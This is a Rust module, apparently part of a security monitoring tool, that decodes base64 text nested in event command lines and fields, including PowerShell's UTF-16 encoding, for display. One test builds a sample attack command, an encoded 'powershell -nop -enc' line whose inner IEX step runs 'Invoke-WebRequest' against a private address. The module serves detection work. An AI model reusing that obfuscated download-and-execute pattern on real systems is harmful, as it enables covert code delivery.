//! What stands in base64 inside an event, as text: shown, never run.

use crate::domain::Event;
use base64::Engine as _;
use base64::alphabet::STANDARD;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use serde_json::Value;

/// Letters from which on a run is looked at: shorter ones are words.
const SHORTEST: usize = 16;
/// Texts within texts that are followed.
const DEPTH: usize = 3;
/// Texts of one event, and letters of one text.
const TEXTS: usize = 20;
const LETTERS: usize = 20_000;

/// Every text that is encoded in an event's command line or fields, the outer before the inner.
#[must_use]
pub fn decoded(event: &Event) -> Vec<String> {
    let mut found = Vec::new();
    if let Some(line) = &event.command_line {
        within(line, DEPTH, &mut found);
    }
    if let Ok(fields) = serde_json::from_str::<Value>(&event.fields) {
        walk(&fields, 8, &mut found);
    }
    found
}

fn walk(value: &Value, depth: usize, found: &mut Vec<String>) {
    match value {
        Value::String(text) => within(text, DEPTH, found),
        Value::Array(items) if depth > 0 => items.iter().for_each(|item| walk(item, depth - 1, found)),
        Value::Object(map) if depth > 0 => map.values().for_each(|item| walk(item, depth - 1, found)),
        _ => {}
    }
}

fn within(text: &str, depth: usize, found: &mut Vec<String>) {
    let stands = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '=');
    for run in text.split(|c| !stands(c)).filter(|run| run.len() >= SHORTEST) {
        if found.len() >= TEXTS || depth == 0 {
            return;
        }
        let Some(clear) = decode(run) else { continue };
        if !found.contains(&clear) {
            found.push(clear.clone());
            within(&clear, depth - 1, found);
        }
    }
}

/// The text that a run stands for: UTF-16 as PowerShell wants it, or UTF-8; `None` when it is none.
fn decode(run: &str) -> Option<String> {
    let engine = GeneralPurpose::new(&STANDARD, GeneralPurposeConfig::new().with_decode_padding_mode(DecodePaddingMode::Indifferent));
    let bytes = engine.decode(run.trim_end_matches('=')).ok()?;
    let wide = bytes.len() >= 8 && bytes.len().is_multiple_of(2) && bytes.chunks(2).filter(|pair| pair[1] == 0).count() * 10 >= bytes.len() / 2 * 7;
    let text = if wide {
        char::decode_utf16(bytes.chunks(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]]))).collect::<Result<String, _>>().ok()?
    } else {
        String::from_utf8(bytes).ok()?
    };
    let readable = |c: char| !c.is_control() || matches!(c, '\n' | '\r' | '\t');
    (text.len() >= 8 && text.chars().all(readable)).then(|| text.chars().take(LETTERS).collect())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn encode(bytes: &[u8]) -> String {
        base64::engine::general_purpose::STANDARD.encode(bytes)
    }

    fn wide(text: &str) -> Vec<u8> {
        text.encode_utf16().flat_map(u16::to_le_bytes).collect()
    }

    #[test]
    fn encoded_commands_are_read_inside_one_another() {
        let inner = encode(b"Invoke-WebRequest http://10.0.0.5/a");
        let outer = format!("$x = FromBase64String('{inner}'); IEX $x");
        let line = format!("powershell -nop -enc {}", encode(&wide(&outer)));
        let event =
            Event { command_line: Some(line.clone()), fields: serde_json::json!({ "EventData": { "CommandLine": line } }).to_string(), ..Event::default() };
        assert_eq!(decoded(&event), [outer, "Invoke-WebRequest http://10.0.0.5/a".to_owned()]);
    }

    #[test]
    fn words_paths_and_bytes_are_none() {
        for text in [
            r"C:\Windows\System32\ApplicationFrameHost.exe -ServerName:Microsoft/Windows/CloudExperienceHost",
            "d41d8cd98f00b204e9800998ecf8427e",
            &encode(&[0, 1, 2, 3, 255, 254, 200, 100, 9, 8, 7, 6, 5, 4]),
            "AAAAAAAAAAAAAAAAAAAAAAAA",
            "================",
        ] {
            let event = Event { command_line: Some(text.into()), ..Event::default() };
            assert_eq!(decoded(&event), Vec::<String>::new(), "{text}");
        }
    }
}
